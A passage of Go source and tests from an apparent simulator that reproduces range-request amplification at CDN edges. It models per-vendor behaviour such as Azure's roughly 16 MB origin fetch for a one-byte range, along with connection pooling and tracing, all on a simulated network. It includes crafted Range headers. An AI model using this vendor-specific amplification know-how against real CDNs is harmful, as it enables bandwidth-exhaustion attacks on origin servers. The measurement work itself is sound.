	resp := r.get(t, "/target.bin", "bytes=5000-6000")
	if resp.StatusCode != 416 {
		t.Fatalf("status = %d", resp.StatusCode)
	}
	if v, _ := resp.Headers.Get("Content-Range"); v != "bytes */1024" {
		t.Errorf("Content-Range = %q", v)
	}
}

func TestHeaderLimit431(t *testing.T) {
	r := newRig(t, vendor.Akamai(), 1024, true)
	req := httpwire.NewRequest("GET", "/target.bin", "site.example")
	req.Headers.Add("Range", "bytes=0-"+strings.Repeat(",0-", 12000)) // > 32 KB
	resp, err := origin.Fetch(r.net, "edge:80", netsim.NewSegment("t"), req)
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != httpwire.StatusHeaderTooLarge {
		t.Fatalf("status = %d, want 431", resp.StatusCode)
	}
	if n := len(r.origin.Log()); n != 0 {
		t.Errorf("origin saw %d requests, want 0", n)
	}
}

func TestAzureTwoOriginConnections(t *testing.T) {
	// §V-A(2): F > 8MB with a window range produces two cdn-origin
	// connections totalling ~16 MB.
	const size = 20 << 20
	r := newRig(t, vendor.Azure(), size, true)
	resp := r.get(t, "/target.bin", "bytes=8388608-8388608")
	if resp.StatusCode != 206 || len(resp.Body) != 1 {
		t.Fatalf("status=%d len=%d", resp.StatusCode, len(resp.Body))
	}
	if v, _ := resp.Headers.Get("Content-Range"); v != "bytes 8388608-8388608/20971520" {
		t.Errorf("Content-Range = %q", v)
	}
	down := r.originSeg.Traffic().Down
	lo, hi := int64(16<<20), int64(17<<20)
	if down < lo || down > hi {
		t.Errorf("cdn-origin traffic = %d, want ~16MB", down)
	}
	if n := len(r.origin.Log()); n != 2 {
		t.Errorf("origin saw %d requests, want 2", n)
	}
}

func TestKeyCDNTwoRequestAmplification(t *testing.T) {
	const size = 1 << 20
	r := newRig(t, vendor.KeyCDN(), size, true)
	r.get(t, "/target.bin?cb=7", "bytes=0-0")
	resp := r.get(t, "/target.bin?cb=7", "bytes=0-0")
	if resp.StatusCode != 206 || len(resp.Body) != 1 {
		t.Fatalf("second response: status=%d len=%d", resp.StatusCode, len(resp.Body))
	}
	log := r.origin.Log()
	if len(log) != 2 {
		t.Fatalf("origin saw %d requests", len(log))
	}
	if !log[0].HasRange || log[1].HasRange {
		t.Errorf("origin log = %+v, want lazy then deletion", log)
	}
	if down := r.originSeg.Traffic().Down; down < size {
		t.Errorf("origin response traffic = %d, want >= %d", down, size)
	}
}

func TestStackPathReforwardOn206(t *testing.T) {
	const size = 1 << 20
	r := newRig(t, vendor.StackPath(), size, true)
	resp := r.get(t, "/target.bin", "bytes=0-0")
	if resp.StatusCode != 206 || len(resp.Body) != 1 {
		t.Fatalf("status=%d len=%d", resp.StatusCode, len(resp.Body))
	}
	log := r.origin.Log()
	if len(log) != 2 || !log[0].HasRange || log[1].HasRange {
		t.Fatalf("origin log = %+v, want lazy then deletion", log)
	}
	if down := r.originSeg.Traffic().Down; down < size {
		t.Errorf("origin traffic %d < resource size", down)
	}
}

func TestNewEdgeValidation(t *testing.T) {
	if _, err := NewEdge(Config{}); err == nil {
		t.Error("NewEdge accepted empty config")
	}
}

func TestUpstreamDialFailure502(t *testing.T) {
	net := netsim.NewNetwork()
	edge, err := NewEdge(Config{
		Profile: vendor.Akamai(), Network: net,
		UpstreamAddr: "nowhere:80", UpstreamSeg: netsim.NewSegment("s"),
	})
	if err != nil {
		t.Fatal(err)
	}
	resp := edge.Handle(httpwire.NewRequest("GET", "/x", "h"))
	if resp.StatusCode != httpwire.StatusBadGateway {
		t.Errorf("status = %d, want 502", resp.StatusCode)
	}
}

func TestEdgeTracing(t *testing.T) {
	store := resource.NewStore()
	store.AddSynthetic("/target.bin", 4096, "application/octet-stream")
	osrv := origin.NewServer(store, origin.Config{RangeSupport: true})
	net := netsim.NewNetwork()
	originL, _ := net.Listen("origin:80")
	go osrv.Serve(originL)
	defer originL.Close()

	tracer := trace.New(trace.Config{SampleEvery: 1})
	edge, err := NewEdge(Config{
		Profile: vendor.Cloudflare(), Network: net,
		UpstreamAddr: "origin:80", UpstreamSeg: netsim.NewSegment("s"),
		Trace: tracer,
	})
	if err != nil {
		t.Fatal(err)
	}

	// No inbound traceparent: the edge span becomes a local root and the
	// trace completes when Handle returns.
	req := httpwire.NewRequest("GET", "/target.bin?cb=1", "h")
	req.Headers.Add("Range", "bytes=0-0")
	edge.Handle(req)

	traces := tracer.Traces()
	if len(traces) != 1 {
		t.Fatalf("completed traces = %d, want 1", len(traces))
	}
	tr := traces[0]
	root := tr.Root()
	if root == nil || root.Node != "cloudflare-edge" {
		t.Fatalf("root span = %+v", root)
	}
	if root.EventCount(trace.KindRequest) != 1 {
		t.Errorf("request events: %d", root.EventCount(trace.KindRequest))
	}
	if root.EventCount(trace.KindCacheMiss) != 1 {
		t.Errorf("cache-miss events: %d", root.EventCount(trace.KindCacheMiss))
	}
	if root.EventCount(trace.KindUpstream) != 1 {
		t.Errorf("upstream events: %d", root.EventCount(trace.KindUpstream))
	}
	if root.EventCount(trace.KindReply) != 1 {
		t.Errorf("reply events: %d", root.EventCount(trace.KindReply))
	}
	// Cloudflare deletes the Range header upstream; the deletion must be
	// visible on the upstream fetch span.
	if len(tr.Spans) != 2 {
		t.Fatalf("span count = %d, want edge+fetch:\n%s", len(tr.Spans), tr.Tree())
	}
	fetch := tr.Spans[1]
	if fetch.Parent != root.ID || fetch.Attr("range") != "(deleted)" {
		t.Errorf("upstream fetch span wrong (parent=%v range=%q):\n%s",
			fetch.Parent, fetch.Attr("range"), tr.Tree())
	}
	if fetch.AttrInt("bytes_down") <= 0 || fetch.AttrInt("status") != 200 {
		t.Errorf("fetch span attrs: bytes_down=%d status=%d",
			fetch.AttrInt("bytes_down"), fetch.AttrInt("status"))
	}

	// A second identical request hits the cache: no upstream child span.
	edge.Handle(req.Clone())
	traces = tracer.Traces()
	if len(traces) != 2 {
		t.Fatalf("completed traces after hit = %d, want 2", len(traces))
	}
	hit := traces[1]
	if hit.Root().EventCount(trace.KindCacheHit) != 1 || len(hit.Spans) != 1 {
		t.Errorf("cache hit trace wrong:\n%s", hit.Tree())
	}
}

func TestTruncateNote(t *testing.T) {
	if got := truncateNote("bytes=0-0"); got != "bytes=0-0" {
		t.Errorf("short note altered: %q", got)
	}
	long := strings.Repeat("x", 49)
	got := truncateNote(long)
	if len(got) != 48 || got != long[:45]+"..." {
		t.Errorf("long note = %q (len %d)", got, len(got))
	}
	exact := strings.Repeat("y", 48)
	if got := truncateNote(exact); got != exact {
		t.Errorf("48-byte note altered: %q", got)
	}
}
