package cdn

import (
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"repro/internal/httpwire"
	"repro/internal/netsim"
	"repro/internal/origin"
	"repro/internal/resource"
	"repro/internal/vendor"
)

// newPoolRig is newRig with control over the edge Config (pooling,
// collapsing, a custom upstream dialer).
func newPoolRig(t *testing.T, profile *vendor.Profile, resourceSize int64, mutate func(*Config)) *rig {
	t.Helper()
	store := resource.NewStore()
	store.AddSynthetic("/target.bin", resourceSize, "application/octet-stream")
	osrv := origin.NewServer(store, origin.Config{RangeSupport: true})

	net := netsim.NewNetwork()
	originL, err := net.Listen("origin:80")
	if err != nil {
		t.Fatal(err)
	}
	go osrv.Serve(originL)
	t.Cleanup(func() { originL.Close() })

	originSeg := netsim.NewSegment("cdn-origin")
	cfg := Config{
		Profile:      profile,
		Network:      net,
		UpstreamAddr: "origin:80",
		UpstreamSeg:  originSeg,
	}
	if mutate != nil {
		mutate(&cfg)
	}
	edge, err := NewEdge(cfg)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { edge.Close() })
	edgeL, err := net.Listen("edge:80")
	if err != nil {
		t.Fatal(err)
	}
	go edge.Serve(edgeL)
	t.Cleanup(func() { edgeL.Close() })

	return &rig{
		net:       net,
		edge:      edge,
		origin:    osrv,
		clientSeg: netsim.NewSegment("client-cdn"),
		originSeg: originSeg,
	}
}

func TestPoolReusesUpstreamConn(t *testing.T) {
	r := newPoolRig(t, vendor.Cloudflare(), 4096, func(cfg *Config) {
		cfg.UpstreamPool = &PoolConfig{Size: 2}
	})
	for i := 0; i < 5; i++ {
		resp := r.get(t, "/target.bin?cb="+string(rune('a'+i)), "bytes=0-0")
		if resp.StatusCode != 206 {
			t.Fatalf("request %d: status = %d", i, resp.StatusCode)
		}
	}
	if n := len(r.origin.Log()); n != 5 {
		t.Fatalf("origin saw %d requests, want 5 (distinct cache busters)", n)
	}
	if conns := r.originSeg.Conns(); conns != 1 {
		t.Errorf("cdn-origin connections = %d, want 1 (all fetches pooled)", conns)
	}
	if idle := r.edge.IdleUpstreamConns(); idle != 1 {
		t.Errorf("idle pooled conns = %d, want 1", idle)
	}
}

func TestPoolPerRequestDialsWithoutPool(t *testing.T) {
	r := newPoolRig(t, vendor.Cloudflare(), 4096, nil)
	for i := 0; i < 3; i++ {
		r.get(t, "/target.bin?cb="+string(rune('a'+i)), "bytes=0-0")
	}
	if conns := r.originSeg.Conns(); conns != 3 {
		t.Errorf("cdn-origin connections = %d, want 3 (a dial per miss)", conns)
	}
}

func TestPoolIdleTimeoutEviction(t *testing.T) {
	now := time.Unix(1700000000, 0)
	var mu sync.Mutex
	clock := func() time.Time {
		mu.Lock()
		defer mu.Unlock()
		return now
	}
	advance := func(d time.Duration) {
		mu.Lock()
		now = now.Add(d)
		mu.Unlock()
	}
	r := newPoolRig(t, vendor.Cloudflare(), 4096, func(cfg *Config) {
		cfg.UpstreamPool = &PoolConfig{Size: 2, IdleTimeout: time.Minute, Now: clock}
	})
	r.get(t, "/target.bin?cb=a", "bytes=0-0")
	if idle := r.edge.IdleUpstreamConns(); idle != 1 {
		t.Fatalf("idle conns = %d, want 1", idle)
	}
	if live := r.originSeg.Live(); live != 1 {
		t.Fatalf("live upstream conns = %d, want 1", live)
	}

	advance(30 * time.Second)
	if reaped := r.edge.ReapIdleUpstream(); reaped != 0 {
		t.Fatalf("reaped %d conns before the timeout", reaped)
	}

	advance(31 * time.Second)
	if reaped := r.edge.ReapIdleUpstream(); reaped != 1 {
		t.Fatalf("reaped %d conns after the timeout, want 1", reaped)
	}
	if idle := r.edge.IdleUpstreamConns(); idle != 0 {
		t.Errorf("idle conns after reap = %d, want 0", idle)
	}
	if live := r.originSeg.Live(); live != 0 {
		t.Errorf("live upstream conns after reap = %d, want 0", live)
	}

	// The next miss redials rather than reusing the evicted socket.
	r.get(t, "/target.bin?cb=b", "bytes=0-0")
	if conns := r.originSeg.Conns(); conns != 2 {
		t.Errorf("total upstream dials = %d, want 2", conns)
	}
}

func TestPoolBrokenConnRedial(t *testing.T) {
	r := newPoolRig(t, vendor.Cloudflare(), 4096, func(cfg *Config) {
		cfg.UpstreamPool = &PoolConfig{Size: 2}
	})
	r.get(t, "/target.bin?cb=a", "bytes=0-0")

	// Kill the pooled socket under the pool (the origin's keep-alive
	// timeout firing between fetches).
	r.edge.pool.mu.Lock()
	if len(r.edge.pool.conns) != 1 {
		r.edge.pool.mu.Unlock()
		t.Fatalf("pool holds %d conns, want 1", len(r.edge.pool.conns))
	}
	r.edge.pool.conns[0].conn.Close()
	r.edge.pool.mu.Unlock()

	resp := r.get(t, "/target.bin?cb=b", "bytes=0-0")
	if resp.StatusCode != 206 {
		t.Fatalf("status after broken conn = %d, want 206 (transparent redial)", resp.StatusCode)
	}
	if n := len(r.origin.Log()); n != 2 {
		t.Errorf("origin saw %d requests, want 2", n)
	}
}

func TestPoolSurplusConnsClose(t *testing.T) {
	r := newPoolRig(t, vendor.Cloudflare(), 4096, func(cfg *Config) {
		cfg.UpstreamPool = &PoolConfig{Size: 1}
	})
	// Azure-style double fetch would exercise this naturally; simulate
	// by borrowing two conns directly and releasing both.
	p := r.edge.pool
	a, _, err := p.get()
	if err != nil {
		t.Fatal(err)
	}
	b, _, err := p.get()
	if err != nil {
		t.Fatal(err)
	}
	p.put(a)
	p.put(b) // over Size: must close, not pool
	if idle := p.IdleConns(); idle != 1 {
		t.Errorf("idle conns = %d, want 1 (surplus closed)", idle)
	}
	if live := r.originSeg.Live(); live != 1 {
		t.Errorf("live upstream conns = %d, want 1 (surplus closed)", live)
	}
}

// gatedDialer blocks the first dial until released, signalling when the
// leader has arrived, and counts every dial.
type gatedDialer struct {
	inner   UpstreamDialer
	arrived chan struct{} // closed when the first dial starts
	release chan struct{} // dials proceed once this closes
	dials   atomic.Int64
	once    sync.Once
}

func (d *gatedDialer) Dial(addr string, seg *netsim.Segment) (netsim.Conn, error) {
	d.dials.Add(1)
	d.once.Do(func() { close(d.arrived) })
	<-d.release
	return d.inner.Dial(addr, seg)
}

func TestCollapseSingleUpstreamFetch(t *testing.T) {
	const K = 8
	store := resource.NewStore()
	store.AddSynthetic("/target.bin", 4096, "application/octet-stream")
	osrv := origin.NewServer(store, origin.Config{RangeSupport: true})

	net := netsim.NewNetwork()
	originL, err := net.Listen("origin:80")
	if err != nil {
		t.Fatal(err)
	}
	go osrv.Serve(originL)
	defer originL.Close()

	gate := &gatedDialer{
		inner:   net,
		arrived: make(chan struct{}),
		release: make(chan struct{}),
	}
	edge, err := NewEdge(Config{
		Profile:      vendor.Cloudflare(),
		Dialer:       gate,
		UpstreamAddr: "origin:80",
		UpstreamSeg:  netsim.NewSegment("cdn-origin"),
		Collapse:     true,
	})
	if err != nil {
		t.Fatal(err)
	}
	defer edge.Close()
	edgeL, err := net.Listen("edge:80")
	if err != nil {
		t.Fatal(err)
	}
	go edge.Serve(edgeL)
	defer edgeL.Close()

	clientSeg := netsim.NewSegment("client-cdn")
	send := func() (*httpwire.Response, error) {
		req := httpwire.NewRequest("GET", "/target.bin", "site.example")
		req.Headers.Add("Range", "bytes=0-0")
		return origin.Fetch(net, "edge:80", clientSeg, req)
	}

	// The leader dials and parks on the gate; every request sent while
	// it is parked must join its flight rather than fetch on its own.
	leaderErr := make(chan error, 1)
	leaderResp := make(chan *httpwire.Response, 1)
	go func() {
		resp, err := send()
		leaderResp <- resp
		leaderErr <- err
	}()
	<-gate.arrived

	var wg sync.WaitGroup
	responses := make([]*httpwire.Response, K-1)
	errs := make([]error, K-1)
	for i := 0; i < K-1; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			responses[i], errs[i] = send()
		}(i)
	}
	// Give the waiters time to park on the leader's flight, then let the
	// leader's upstream fetch proceed.
	time.Sleep(50 * time.Millisecond)
	close(gate.release)
	wg.Wait()

	if err := <-leaderErr; err != nil {
		t.Fatal(err)
	}
	if resp := <-leaderResp; resp.StatusCode != 206 || len(resp.Body) != 1 {
		t.Fatalf("leader response = %d (%dB)", resp.StatusCode, len(resp.Body))
	}
	for i := 0; i < K-1; i++ {
		if errs[i] != nil {
			t.Fatalf("waiter %d: %v", i, errs[i])
		}
		if responses[i].StatusCode != 206 || len(responses[i].Body) != 1 {
			t.Fatalf("waiter %d response = %d (%dB)", i, responses[i].StatusCode, len(responses[i].Body))
		}
	}
	if dials := gate.dials.Load(); dials != 1 {
		t.Errorf("upstream dials = %d, want exactly 1 for %d concurrent misses", dials, K)
	}
	if n := len(osrv.Log()); n != 1 {
		t.Errorf("origin saw %d requests, want exactly 1", n)
	}
	st := edge.Cache().Stats()
	if got := st.Collapsed + st.Hits; got != K-1 {
		t.Errorf("collapsed(%d)+hits(%d) = %d, want %d", st.Collapsed, st.Hits, got, K-1)
	}
	if st.Collapsed == 0 {
		t.Errorf("no request collapsed onto the in-flight fetch (stats %+v)", st)
	}
}

func TestCollapseOffIsDefault(t *testing.T) {
	// Without Collapse the same concurrent miss pattern pays a fetch per
	// request — the measured per-request configuration.
	r := newPoolRig(t, vendor.Cloudflare(), 4096, nil)
	const K = 4
	var wg sync.WaitGroup
	for i := 0; i < K; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			req := httpwire.NewRequest("GET", "/miss-everytime?cb=same", "site.example")
			req.Headers.Add("Range", "bytes=0-0")
			origin.Fetch(r.net, "edge:80", r.clientSeg, req) //nolint:errcheck
		}()
	}
	wg.Wait()
	if st := r.edge.Cache().Stats(); st.Collapsed != 0 {
		t.Errorf("collapsed = %d without Collapse enabled", st.Collapsed)
	}
}
