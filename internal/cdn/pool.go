package cdn

import (
	"bufio"
	"sync"
	"time"

	"repro/internal/httpwire"
	"repro/internal/metrics"
	"repro/internal/netsim"
)

// PoolConfig tunes the edge's back-to-origin connection pool. A nil
// *PoolConfig on cdn.Config keeps the per-request dial path — the
// paper's measured configuration — so pooling is strictly opt-in.
type PoolConfig struct {
	// Size bounds the idle connections retained. Zero means 4. A flood
	// can still run more concurrent fetches than Size: excess fetches
	// dial their own connection and the surplus is closed on release.
	Size int

	// IdleTimeout drops pooled connections that have sat unused this
	// long (the origin's own keep-alive timeout would kill them soon
	// anyway; evicting first avoids writing into a dead socket). Zero
	// means 30 seconds.
	IdleTimeout time.Duration

	// Now is the clock; nil means time.Now (tests inject a fake).
	Now func() time.Time
}

const (
	defaultPoolSize    = 4
	defaultIdleTimeout = 30 * time.Second
)

// pooledConn is one persistent upstream connection. The bufio.Reader
// stays bound to the connection for its whole life: response parsing
// may buffer ahead, and those bytes must survive into the next fetch.
type pooledConn struct {
	conn     netsim.Conn
	br       *bufio.Reader
	lastUsed time.Time
}

// close releases the connection and recycles its reader.
func (pc *pooledConn) close() {
	httpwire.PutReader(pc.br)
	pc.conn.Close()
}

// connPool is a bounded LIFO pool of persistent upstream connections.
// LIFO keeps the hottest connection hottest: under light load the same
// connection serves every fetch and the rest age out via IdleTimeout.
type connPool struct {
	dialer UpstreamDialer
	addr   string
	seg    *netsim.Segment
	size   int
	idle   time.Duration
	now    func() time.Time

	mu     sync.Mutex
	conns  []*pooledConn // LIFO stack of idle connections
	closed bool

	mReuses, mDials, mEvictIdle, mEvictBroken *metrics.Counter
	gIdle                                     *metrics.Gauge
}

func newConnPool(reg *metrics.Registry, cfg PoolConfig, dialer UpstreamDialer, addr string, seg *netsim.Segment, vend metrics.Label) *connPool {
	if reg == nil {
		reg = metrics.Default
	}
	if cfg.Size <= 0 {
		cfg.Size = defaultPoolSize
	}
	if cfg.IdleTimeout <= 0 {
		cfg.IdleTimeout = defaultIdleTimeout
	}
	if cfg.Now == nil {
		cfg.Now = time.Now
	}
	const evictName = "cdn_pool_evictions_total"
	const evictHelp = "Pooled upstream connections dropped, by reason."
	return &connPool{
		dialer: dialer,
		addr:   addr,
		seg:    seg,
		size:   cfg.Size,
		idle:   cfg.IdleTimeout,
		now:    cfg.Now,
		mReuses: reg.Counter("cdn_pool_reuses_total",
			"Back-to-origin fetches served over a reused pooled connection, per vendor.", vend),
		mDials: reg.Counter("cdn_pool_dials_total",
			"Back-to-origin connections dialed by the pool, per vendor.", vend),
		mEvictIdle:   reg.Counter(evictName, evictHelp, vend, metrics.L("reason", "idle")),
		mEvictBroken: reg.Counter(evictName, evictHelp, vend, metrics.L("reason", "broken")),
		gIdle: reg.Gauge("cdn_pool_idle_conns",
			"Idle connections currently held by the upstream pool, per vendor.", vend),
	}
}

// get returns a live pooled connection (reused=true) or dials a fresh
// one. Stale idle connections found on the way are evicted.
func (p *connPool) get() (pc *pooledConn, reused bool, err error) {
	p.mu.Lock()
	p.reapLocked()
	if n := len(p.conns); n > 0 {
		pc = p.conns[n-1]
		p.conns = p.conns[:n-1]
		p.gIdle.Add(-1)
		p.mu.Unlock()
		p.mReuses.Inc()
		return pc, true, nil
	}
	p.mu.Unlock()
	return p.dial()
}

// dial opens a fresh upstream connection outside the pool lock.
func (p *connPool) dial() (*pooledConn, bool, error) {
	conn, err := p.dialer.Dial(p.addr, p.seg)
	if err != nil {
		return nil, false, err
	}
	p.mDials.Inc()
	return &pooledConn{conn: conn, br: httpwire.GetReader(conn)}, false, nil
}

// put returns a connection for reuse; surplus beyond Size (or anything
// arriving after Close) is closed instead.
func (p *connPool) put(pc *pooledConn) {
	pc.lastUsed = p.now()
	p.mu.Lock()
	if p.closed || len(p.conns) >= p.size {
		p.mu.Unlock()
		pc.close()
		return
	}
	p.conns = append(p.conns, pc)
	p.gIdle.Add(1)
	p.mu.Unlock()
}

// discard drops a connection observed broken or left dirty (unread
// body bytes, a truncated read, a Connection: close response).
func (p *connPool) discard(pc *pooledConn) {
	p.mEvictBroken.Inc()
	pc.close()
}

// ReapIdle evicts every pooled connection idle past the timeout and
// returns how many were dropped. The pool also reaps lazily on get;
// this explicit hook exists for tests and operator loops.
func (p *connPool) ReapIdle() int {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.reapLocked()
}

// reapLocked drops timed-out idle connections; callers hold p.mu. The
// stack is LIFO so idle ages decrease toward the top: everything below
// the first fresh connection is stale.
func (p *connPool) reapLocked() int {
	cutoff := p.now().Add(-p.idle)
	keep := 0
	for keep < len(p.conns) && !p.conns[keep].lastUsed.After(cutoff) {
		keep++
	}
	if keep == 0 {
		return 0
	}
	for _, pc := range p.conns[:keep] {
		pc.close()
		p.mEvictIdle.Inc()
		p.gIdle.Add(-1)
	}
	p.conns = append(p.conns[:0], p.conns[keep:]...)
	return keep
}

// Close drops every idle connection and rejects future puts. In-flight
// fetches finish on their borrowed connections, which then close on put.
func (p *connPool) Close() {
	p.mu.Lock()
	conns := p.conns
	p.conns = nil
	p.closed = true
	p.mu.Unlock()
	for _, pc := range conns {
		pc.close()
		p.gIdle.Add(-1)
	}
}

// IdleConns returns the number of idle pooled connections.
func (p *connPool) IdleConns() int {
	p.mu.Lock()
	defer p.mu.Unlock()
	return len(p.conns)
}
