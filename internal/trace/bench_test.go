package trace

import "testing"

// The engines trace unconditionally, so the disabled/nil paths must be
// allocation-free — the old Log.Add boxed its format args and ran
// fmt.Sprintf under the mutex even when every caller passed a nil sink.

func TestNilSinkZeroAlloc(t *testing.T) {
	var sp *Span
	disabled := New(Config{})
	cases := []struct {
		name string
		fn   func()
	}{
		{"disabled StartRoot", func() { disabled.StartRoot("attacker", "GET /x") }},
		{"nil tracer StartRoot", func() { (*Tracer)(nil).StartRoot("attacker", "GET /x") }},
		{"nil span Event", func() { sp.Event(KindRequest, "range=bytes=0-0") }},
		{"nil span SetAttrInt", func() { sp.SetAttrInt("bytes_down", 42) }},
		{"nil span End", func() { sp.End() }},
	}
	for _, tc := range cases {
		if allocs := testing.AllocsPerRun(1000, tc.fn); allocs != 0 {
			t.Errorf("%s: %.1f allocs/op, want 0", tc.name, allocs)
		}
	}
}

func BenchmarkNilSinkEvent(b *testing.B) {
	var sp *Span
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		sp.Event(KindRequest, "range=bytes=0-0")
		sp.SetAttrInt("bytes_down", 42)
	}
}

func BenchmarkDisabledStartRoot(b *testing.B) {
	tr := New(Config{})
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		sp := tr.StartRoot("attacker", "GET /video.bin")
		sp.Event(KindRequest, "arrived")
		sp.End()
	}
}

func BenchmarkRecordingSpan(b *testing.B) {
	tr := New(Config{SampleEvery: 1, Capacity: 8})
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		sp := tr.StartRoot("attacker", "GET /video.bin")
		sp.Event(KindRequest, "arrived")
		sp.SetAttrInt("bytes_down", 42)
		sp.End()
	}
}
