package trace

import (
	"encoding/json"
	"fmt"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"repro/internal/httpwire"
)

func TestIDRendering(t *testing.T) {
	if got := TraceID(0x2a).String(); got != "0000000000000000000000000000002a" {
		t.Errorf("TraceID = %q", got)
	}
	if got := SpanID(0x2a).String(); got != "000000000000002a" {
		t.Errorf("SpanID = %q", got)
	}
}

func TestHeaderRoundTrip(t *testing.T) {
	sc := SpanContext{Trace: 0xdeadbeef, Span: 0x1234, Sampled: true}
	v := sc.HeaderValue()
	if len(v) != headerLen {
		t.Fatalf("header value %q has length %d, want %d", v, len(v), headerLen)
	}
	got, ok := ParseHeader(v)
	if !ok || got != sc {
		t.Fatalf("ParseHeader(%q) = %+v, %v", v, got, ok)
	}
	unsampled := SpanContext{Trace: 1, Span: 2}
	got, ok = ParseHeader(unsampled.HeaderValue())
	if !ok || got.Sampled {
		t.Errorf("unsampled round trip = %+v, %v", got, ok)
	}
	for _, bad := range []string{
		"",
		"00-xyz",
		"00-0000000000000000000000000000002a-000000000000002a-zz",
		"00-00000000000000000000000000000000-0000000000000001-01", // zero trace id
		"00-0000000000000001-0000000000000001-01",                 // short trace id
	} {
		if _, ok := ParseHeader(bad); ok {
			t.Errorf("ParseHeader(%q) accepted", bad)
		}
	}
}

func TestInjectExtract(t *testing.T) {
	tr := New(Config{SampleEvery: 1})
	sp := tr.StartRoot("attacker", "GET /x")
	var hs httpwire.Headers
	hs.Add("Host", "victim.example.com")
	Inject(sp, &hs)
	sc := Extract(hs)
	if sc != sp.Context() {
		t.Fatalf("Extract = %+v, want %+v", sc, sp.Context())
	}
	// A nil span strips any inbound context instead of forwarding it.
	Inject(nil, &hs)
	if hs.Has(Header) {
		t.Error("nil Inject left traceparent in place")
	}
	if Extract(hs).Valid() {
		t.Error("Extract on stripped headers returned valid context")
	}
}

func TestSpanTreeAssembly(t *testing.T) {
	tr := New(Config{SampleEvery: 1})
	root := tr.StartRoot("attacker", "GET /video.bin")
	root.SetAttr("range", "bytes=0-0")
	edge := tr.StartServer(root.Context(), "cloudflare-edge", "GET /video.bin")
	edge.Event(KindRequest, "range=bytes=0-0")
	fetch := edge.StartChild("fetch origin.internal:80")
	fetch.SetAttrInt("bytes_down", 1024)
	origin := tr.StartServer(fetch.Context(), "origin", "GET /video.bin")
	origin.SetAttrInt("status", 200)
	origin.End()
	fetch.End()
	edge.End()
	if got := tr.Traces(); len(got) != 0 {
		t.Fatalf("trace completed before root ended: %d", len(got))
	}
	root.End()
	traces := tr.Traces()
	if len(traces) != 1 {
		t.Fatalf("completed traces = %d, want 1", len(traces))
	}
	got := traces[0]
	if got.ID != root.Trace {
		t.Errorf("trace id = %v, want %v", got.ID, root.Trace)
	}
	if len(got.Spans) != 4 {
		t.Fatalf("spans = %d, want 4", len(got.Spans))
	}
	if r := got.Root(); r != root {
		t.Errorf("Root() = %v", r)
	}
	// Connectedness: every non-root span's parent is in the trace.
	ids := map[SpanID]bool{}
	for _, s := range got.Spans {
		ids[s.ID] = true
	}
	for _, s := range got.Spans[1:] {
		if !ids[s.Parent] {
			t.Errorf("span %v has dangling parent %v", s.ID, s.Parent)
		}
	}
	for _, s := range got.Spans {
		if s.Finish < s.Start {
			t.Errorf("span %v ends before it starts", s.ID)
		}
	}
	if origin.Attr("status") != "200" || fetch.AttrInt("bytes_down") != 1024 {
		t.Error("typed attributes lost")
	}
	if edge.EventCount(KindRequest) != 1 || edge.EventCount("") != 1 {
		t.Error("span events lost")
	}
}

func TestHeadSampling(t *testing.T) {
	tr := New(Config{SampleEvery: 3})
	var sampled int
	for i := 0; i < 9; i++ {
		if sp := tr.StartRoot("attacker", "GET /x"); sp != nil {
			sampled++
			sp.End()
		}
	}
	if sampled != 3 {
		t.Errorf("sampled %d of 9 roots at 1/3", sampled)
	}
	// Deterministic: the first root of a fresh sequence is always kept.
	tr.Reset()
	if tr.StartRoot("attacker", "GET /x") == nil {
		t.Error("first root after Reset not sampled")
	}
	// An unsampled remote flag suppresses the server span too.
	sc := SpanContext{Trace: 5, Span: 6, Sampled: false}
	tr2 := New(Config{SampleEvery: 2})
	tr2.StartRoot("a", "x").End() // consume the kept slot
	if sp := tr2.StartServer(sc, "edge", "GET /x"); sp != nil {
		t.Error("unsampled remote context produced a recording span")
	}
}

func TestRingBufferBound(t *testing.T) {
	tr := New(Config{SampleEvery: 1, Capacity: 3})
	for i := 0; i < 5; i++ {
		sp := tr.StartRoot("attacker", fmt.Sprintf("GET /%d", i))
		sp.End()
	}
	traces := tr.Traces()
	if len(traces) != 3 {
		t.Fatalf("ring holds %d, want 3", len(traces))
	}
	// Oldest first, and the two oldest were evicted.
	for i, want := range []string{"GET /2", "GET /3", "GET /4"} {
		if got := traces[i].Spans[0].Name; got != want {
			t.Errorf("ring[%d] = %q, want %q", i, got, want)
		}
	}
}

func TestDisabledAndNilTracer(t *testing.T) {
	var nilT *Tracer
	if nilT.Enabled() || nilT.StartRoot("a", "x") != nil || nilT.Traces() != nil {
		t.Error("nil tracer not inert")
	}
	nilT.Reset()
	nilT.Configure(Config{SampleEvery: 1})

	off := New(Config{})
	if off.Enabled() || off.StartRoot("a", "x") != nil {
		t.Error("zero-config tracer not disabled")
	}
	if off.StartServer(SpanContext{Trace: 1, Span: 2, Sampled: true}, "edge", "x") != nil {
		t.Error("disabled tracer recorded a server span")
	}

	// Nil spans absorb the whole API.
	var sp *Span
	if sp.Recording() || sp.Context().Valid() || sp.TraceIDString() != "" {
		t.Error("nil span not inert")
	}
	sp.SetAttr("k", "v")
	sp.SetAttrInt("k", 1)
	sp.Event(KindRequest, "d")
	sp.Eventf(KindRequest, "%d", 1)
	sp.End()
	if sp.StartChild("x") != nil {
		t.Error("nil span produced a child")
	}
	if sp.Attr("k") != "" || sp.AttrInt("k") != 0 || sp.EventCount("") != 0 {
		t.Error("nil span accessors not zero")
	}
}

func TestConfigureEnablesAndClears(t *testing.T) {
	tr := New(Config{SampleEvery: 1})
	tr.StartRoot("a", "x").End()
	tr.Configure(Config{SampleEvery: 1, Capacity: 8})
	if len(tr.Traces()) != 0 {
		t.Error("Configure kept old completed traces")
	}
	sp := tr.StartRoot("a", "y")
	if sp == nil {
		t.Fatal("reconfigured tracer not sampling")
	}
	sp.End()
	if len(tr.Traces()) != 1 {
		t.Error("reconfigured tracer lost trace")
	}
}

func TestConcurrentSpans(t *testing.T) {
	tr := New(Config{SampleEvery: 1, Capacity: 256})
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < 50; i++ {
